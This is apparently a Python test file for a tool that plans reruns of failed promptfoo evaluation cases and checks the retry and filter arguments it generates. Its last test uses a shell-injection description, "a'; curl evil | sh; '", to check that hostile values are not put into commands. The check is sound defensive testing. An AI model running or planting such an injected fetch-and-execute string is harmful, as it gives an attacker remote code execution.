"""promptfoo: a retry of the evaluation, or a column and its tests by name."""

from wishes import a_request, failed

from errata.rerun import Others, plan_for
from errata.rerun.plan import PlanNote, why_by_hand

EVAL = "eval-waB-2026-11-15T19:42:23"


def a_column(cases, *, stats=None, repeat=1, label="", **changes):
    extra = {
        "provider": {"id": "openai:gpt-5", "label": label},
        "prompt label": "terse",
        "runtimeOptions": {"repeat": repeat},
        "stats": {"errors": stats} if stats is not None else {},
    }
    return a_request("promptfoo", cases, **{"native_id": EVAL, "extra": extra, **changes})


def error(case, **changes):
    return failed(case, native_status="ERROR", **changes)


def unjudged(case):
    return failed(case, why="not measured", native_status="FAIL")


def test_errors_are_retried_where_that_takes_nothing_else_along():
    (command,) = plan_for(a_column([error("one"), error("input-0123ab")], stats=2)).commands

    assert command.argv == ("promptfoo", "retry", EVAL)
    assert command.cases == ["one", "input-0123ab"]


def test_errors_of_another_column_are_not_taken_along():
    (command,) = plan_for(a_column([error("one")], stats=5, variant={"prompt": "terse"})).commands

    assert command.argv == (
        *("promptfoo", "eval", "--no-cache", "--filter-providers=^openai:gpt-5$", "--filter-prompts=^terse$"),
        *("--repeat=1", "--filter-pattern=^one$"),
    )


def test_a_test_without_a_description_can_only_be_retried_with_all_errors():
    (command,) = plan_for(a_column([error("input-0123ab")], stats=5)).commands

    assert (command.argv[1], command.also) == ("retry", 4)
    assert command.also_why == "all_errors"


def test_an_error_that_is_not_wanted_counts_as_taken_along():
    (command,) = plan_for(a_column([error("input-0123ab")], others=Others(statuses={"ERROR": 2}))).commands

    assert command.also == 2


def test_an_evaluation_with_repeats_is_never_retried():
    """promptfoo 0.121.20 removes all errors of it, but repeats only those of the first round."""
    plan = plan_for(a_column([error("input-0123ab")], repeat=2))

    assert plan.commands == ()
    assert why_by_hand(plan.by_hand[0]) == "the test has no description to select it by"


def test_repeats_are_asked_for_as_often_as_they_failed():
    (command,) = plan_for(a_column([error("one"), error("one", index=2)], repeat=2)).commands

    assert "--repeat=2" in command.argv


def test_a_judge_that_broke_is_no_error_to_promptfoo():
    (command,) = plan_for(a_column([unjudged("judge throws"), error("judge hangs")])).commands

    assert command.argv[-1] == r"--filter-pattern=^(?:judge\s+throws|judge\s+hangs)$"


def test_a_label_names_the_provider_better_than_its_id():
    (command,) = plan_for(a_column([unjudged("one")], label="bad")).commands

    assert "--filter-providers=^bad$" in command.argv


def test_a_prompt_without_a_plain_name_is_told():
    request = a_column([unjudged("one")], variant={"prompt": "{{q}}"})
    request.run.extra["prompt label"] = "{{q}}"

    plan = plan_for(request)

    assert not any(word.startswith("--filter-prompts") for word in plan.commands[0].argv)
    assert PlanNote("every_prompt") in plan.notes


def test_rows_without_their_evaluation_can_be_chosen_by_description():
    (command,) = plan_for(a_column([error("one")], native_id="results")).commands

    assert command.argv[1] == "eval"


def test_two_tests_of_one_description_are_left_to_the_user():
    plan = plan_for(a_column([unjudged("same [0123abcd]")]))

    assert plan.commands == ()


def test_a_hostile_description_is_left_to_the_user():
    plan = plan_for(a_column([unjudged("a'; curl evil | sh; '"), unjudged(".*")]))

    assert plan.commands == ()
    assert len(plan.by_hand) == 2
